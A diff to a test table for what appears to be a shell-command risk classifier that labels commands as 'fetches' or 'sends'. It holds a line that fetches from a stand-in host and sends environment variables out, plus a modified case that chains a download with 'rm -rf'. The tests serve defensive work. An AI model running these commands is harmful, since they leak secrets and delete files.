@@ -27,7 +27,7 @@ test.each([
   ['rsync -a a/ example.invalid:b/', []],
   ['env | sort', []],
   [
-    `wget "https://example.invalid/d?c=$(wget -qO- 'https://example.invalid/d' | sed -rn 's/.*c=([0-9A-Z]+).*/\\1/p')&i=1"`,
+    `wget "https://example.invalid/d?i=1&c=$(wget -qO- 'https://example.invalid/d' | sed -rn 's/.*c=([0-9A-Z]+).*/\n/p')&i=1" -O a.zip && rm -rf c.txt`,
     ['fetches'],
   ],
   ['wget https://evil.invalid/$(curl -s https://evil.invalid/a; env)', ['fetches', 'sends']],
